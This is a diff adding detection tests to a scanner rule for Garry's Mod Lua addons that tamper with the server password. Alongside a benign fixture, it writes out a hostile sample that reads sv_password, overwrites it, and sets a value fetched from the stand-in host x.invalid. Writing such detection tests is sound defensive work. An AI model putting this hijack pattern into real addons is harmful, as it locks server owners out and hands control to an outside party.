@@ -120,4 +120,28 @@ describe('cvar_tampering', () => {
       RANK.high,
     );
   });
+  it("the server's own password kept when an event starts and put back at shutdown (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local saved',
+        'concommand.Add("event_lock", function(ply)',
+        '  if IsValid(ply) and not ply:IsSuperAdmin() then return end',
+        '  saved = GetConVarString("sv_password")',
+        '  RunConsoleCommand("sv_password", tostring(math.random(1000, 9999)))',
+        'end)',
+        'hook.Add("ShutDown", "event_lock", function() RunConsoleCommand("sv_password", saved or "") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
+  });
+  it("the server's password read, then replaced by the author's own or the web's", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local old = GetConVarString("sv_password")',
+        'hook.Add("ShutDown", "x", function() RunConsoleCommand("sv_password", "x" .. "lock") end)',
+        'timer.Simple(30, function() http.Fetch("https://x.invalid/p", function(b) RunConsoleCommand("sv_password", b) end) end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity === 'critical')).toHaveLength(2);
+  });
 });
